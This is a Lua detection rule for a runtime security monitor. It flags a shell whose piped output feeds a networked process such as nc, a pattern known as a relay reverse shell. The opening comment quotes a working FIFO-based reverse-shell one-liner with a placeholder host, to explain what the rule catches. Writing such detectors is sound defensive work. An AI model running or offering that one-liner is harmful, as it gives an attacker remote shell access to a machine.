-- Shell driven through a relay: a shell whose standard input is a pipe,
-- FIFO or socket pair (not a terminal, not a file), and whose output goes
-- into the standard input of a process that holds a network connection.
-- That is a reverse shell built from parts, each harmless alone:
--
--   mkfifo f; cat f | sh -i 2>&1 | nc HOST PORT > f
--
-- No socket is ever on the shell's own stdio, so the reverse-shell rule
-- does not see it, and nc is not given -e.  Streams are matched by
-- identity (the pipe's inode, proc.stdout.ino), in either order: the shell
-- may start before or after the relay connects.  `curl ... | sh` (a
-- download piped to a shell whose output stays local) is not this.
--
--   lanner --script rules/detections/relay_shell.lua -- ./app
local d = require "lanner.detect"

local STREAM_TYPES = { pipe = true, unix = true }
local shells = d.files(4096, 600)   -- (dev:ino of a stream a shell writes) -> shell
local relays = d.files(4096, 600)   -- (dev:ino of a networked process's stdin) -> process

local function report(shell, relay)
	d.alert {
		rule = "Shell driven through a network relay",
		priority = "critical",
		output = "Shell output piped into a process with a network connection, shell input from a "
			.. d.quote(shell.stdin) .. " (shell=" .. d.quote(shell.name) .. " shell_pid=" .. shell.pid
			.. " relay=" .. d.quote(relay.name) .. " relay_pid=" .. relay.pid .. " connection="
			.. d.quote(relay.conn) .. " user=%user.name container=%container.id)",
		tags = { "execution", "command_and_control", "mitre_execution", "T1059.004" },
		fields = { ["shell.pid"] = shell.pid, ["relay.pid"] = relay.pid, ["relay.connection"] = relay.conn },
	}
end

d.on([[evt.type in (execve, execveat) and evt.rawres = 0
       and proc.name in (sh, bash, dash, zsh, ksh, ash, mksh, busybox)]],
function(e)
	if not STREAM_TYPES[e["proc.stdin.type"] or ""] then return end
	local shell = { pid = e.pid, name = e["proc.cmdline"], stdin = e["proc.stdin.type"] }
	for _, s in ipairs { "stdout", "stderr" } do
		local k = STREAM_TYPES[e["proc." .. s .. ".type"] or ""] and shells:of_stream(e, s)
		if k then
			local relay = relays:get(k)
			if relay then return report(shell, relay) end
			shells:set(k, shell)
		end
	end
end)

d.on([[evt.type in (connect, accept, accept4) and fd.typechar in (4, 6)
       and (evt.rawres >= 0 or evt.res = EINPROGRESS)
       and not fd.rnet in ("127.0.0.0/8", "::1/128")]],
function(e)
	if not STREAM_TYPES[e["proc.stdin.type"] or ""] then return end
	local k = relays:of_stream(e, "stdin")
	if not k then return end
	local relay = { pid = e.pid, name = e["proc.cmdline"], conn = e["fd.name"] or "?" }
	local shell = shells:get(k)
	if shell then
		shells:del(k)
		return report(shell, relay)
	end
	relays:set(k, relay)
end)
